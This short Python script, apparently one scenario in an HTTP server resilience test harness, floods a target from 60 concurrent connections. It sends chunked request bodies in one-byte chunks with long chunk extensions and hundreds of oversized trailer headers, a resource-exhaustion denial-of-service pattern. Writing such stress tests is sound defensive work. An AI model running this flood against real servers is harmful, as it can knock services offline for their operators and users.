"""Bodies in chunks of a byte, with long extensions and trailers."""
from swarm import READ, Swarm

HEAD = b"POST /api/points HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n"


def attack(target, deadline):
    tiny = b"".join(b"1;%s\r\n%c\r\n" % (b"e" * 100, letter) for letter in b"chunked.key 1 1\n") * 100
    trailers = b"0\r\n" + b"".join(b"X-%d: %s\r\n" % (number, b"t" * 500) for number in range(200)) + b"\r\n"

    def script(number):
        while True:
            yield HEAD
            for _ in range(50):
                yield tiny
            yield trailers if number % 2 else b"0\r\n\r\n"
            yield READ
    Swarm(target.http, 60, script, addresses=target.addresses).run(deadline)
